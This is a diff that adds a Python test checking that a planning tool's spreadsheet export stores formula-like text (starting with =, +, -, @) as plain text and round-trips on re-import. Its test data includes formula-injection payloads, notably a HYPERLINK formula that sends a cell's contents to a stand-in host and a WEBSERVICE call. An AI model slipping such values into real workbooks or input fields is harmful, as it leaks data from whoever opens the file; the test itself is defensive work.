@@ -29,3 +29,29 @@ def test_export_is_a_readable_workbook_that_round_trips(plan, tmp_path):
     assert preview.ok and not preview.changes_anything
     assert preview.counts()["values unchanged"] == plan.actuals.count()
     assert preview.counts()["measures unchanged"] == sum(n.kind in ("goal", "measure") for n in plan.nodes.tree().nodes.values())
+
+
+FORMULA_LIKE = ['=HYPERLINK("http://example.invalid/?"&B2,"点这里")', "+1+1", "-2+3", "@SUM(A1:A2)", '=WEBSERVICE("x")']
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text(plan, tmp_path):
+    """A title beginning with = was written as a live formula (a clickable link that sends a cell away)."""
+    texts = dict(zip(("C", "C-S1-M2", "C-S1", "C-S1-A1", "C-G1"), FORMULA_LIKE, strict=True))
+    with plan.batch():
+        for code, text in texts.items():
+            plan.nodes.update(plan.nodes.by_code(code).id, title=text, description=text, owner=text)
+        m2 = plan.nodes.by_code("C-S1-M2").id
+        plan.actuals.write([(m2, "2026-10", 17600.0, 20000.0, FORMULA_LIKE[0])])
+    path = export(plan, tmp_path / "plan.xlsx")
+    wb = openpyxl.load_workbook(path)
+    found = {}
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if isinstance(cell.value, str) and cell.value.lstrip(" ").startswith(("=", "+", "-", "@")):
+                    found[(ws.title, cell.coordinate)] = (cell.data_type, cell.value)
+    assert found and all(data_type == "s" for data_type, _ in found.values()), found
+    assert {v for _, v in found.values()} >= set(FORMULA_LIKE)
+    # and the import reads the same text back: nothing changes
+    preview = importer.analyse(plan, path)
+    assert preview.ok and not preview.changes_anything
